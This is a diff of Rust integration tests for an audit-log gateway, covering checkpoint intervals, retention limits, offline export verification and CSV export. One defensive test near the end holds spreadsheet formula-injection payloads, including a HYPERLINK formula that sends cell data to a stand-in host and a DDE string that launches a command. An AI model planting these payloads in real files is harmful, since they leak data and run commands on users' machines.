@@ -265,7 +265,7 @@ async fn the_disclosure_report_lists_every_time_data_left() {
 
 #[tokio::test]
 async fn verify_reports_an_intact_chain_with_checkpoints() {
-    let gw = TestGateway::start_with(|c, _| c.audit.checkpoint_every = 3).await;
+    let gw = TestGateway::start_with(|c, _| c.audit.checkpoint_every = every(3)).await;
     traffic(&gw).await;
     let r = officer_get(&gw, "/v1/audit/verify").await;
     assert_eq!(r.status, StatusCode::OK, "{}", r.text);
@@ -289,7 +289,7 @@ pub(crate) async fn stopped_home_with_suite(
     suite: Suite,
 ) -> (tempfile::TempDir, tongban::config::Config) {
     let gw = TestGateway::start_with(|c, _| {
-        c.audit.checkpoint_every = checkpoint_every;
+        c.audit.checkpoint_every = every(checkpoint_every);
         c.audit.suite = suite;
     })
     .await;
@@ -431,7 +431,7 @@ fn verify_export_file(file: &std::path::Path, key: &std::path::Path) -> std::pro
 
 #[tokio::test]
 async fn an_export_verifies_offline_and_any_change_to_it_fails() {
-    let gw = TestGateway::start_with(|c, _| c.audit.checkpoint_every = 5).await;
+    let gw = TestGateway::start_with(|c, _| c.audit.checkpoint_every = every(5)).await;
     for _ in 0..3 {
         traffic(&gw).await;
     }
@@ -558,8 +558,8 @@ async fn pruning_removes_only_exported_checkpointed_old_events_and_the_rest_veri
     let long_ago = time::OffsetDateTime::now_utc() - time::Duration::days(200);
     let mut gw = TestGateway::start_at(
         |c, home| {
-            c.audit.retention_days = Some(183);
-            c.audit.checkpoint_every = 2;
+            c.audit.retention_days = Some(183.try_into().unwrap());
+            c.audit.checkpoint_every = every(2);
             // The CLI reads the file too.
             let file = home.join("tongban.toml");
             let text = std::fs::read_to_string(&file).unwrap();
@@ -622,9 +622,18 @@ async fn pruning_removes_only_exported_checkpointed_old_events_and_the_rest_veri
 
 #[test]
 fn retention_below_six_months_is_refused() {
-    let (_home, mut config) = crate::helpers::demo_home();
-    config.audit.retention_days = Some(90);
-    let err = config.check().unwrap_err().to_string();
+    let (home, _config) = crate::helpers::demo_home();
+    let file = home.path().join("tongban.toml");
+    let text = std::fs::read_to_string(&file).unwrap();
+    assert!(text.contains("\n[audit]\n"));
+    std::fs::write(
+        &file,
+        text.replace("\n[audit]\n", "\n[audit]\nretention_days = 90\n"),
+    )
+    .unwrap();
+    let err = tongban::config::Config::load(&file)
+        .unwrap_err()
+        .to_string();
     assert!(err.contains("183"), "{err}");
 }
 
@@ -713,7 +722,7 @@ async fn an_export_dropped_mid_stream_is_not_counted_as_exported() {
 /// and the export still verifies offline.
 #[tokio::test]
 async fn csv_cells_that_a_spreadsheet_would_run_are_written_as_text() {
-    let gw = TestGateway::start_with(|c, _| c.audit.checkpoint_every = 2).await;
+    let gw = TestGateway::start_with(|c, _| c.audit.checkpoint_every = every(2)).await;
     let id = gw.sample_ids("gongan.hukou", 1)[0].clone();
     let evil = "=HYPERLINK(\"http://evil.example/\"&A1,\"open\")";
     for sub in [evil, "+1+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"] {
@@ -767,4 +776,9 @@ async fn csv_cells_that_a_spreadsheet_would_run_are_written_as_text() {
         "{}",
         String::from_utf8_lossy(&out.stdout)
     );
+}
+
+/// A checkpoint interval in events.
+fn every(events: u64) -> std::num::NonZeroU64 {
+    std::num::NonZeroU64::new(events).unwrap()
 }
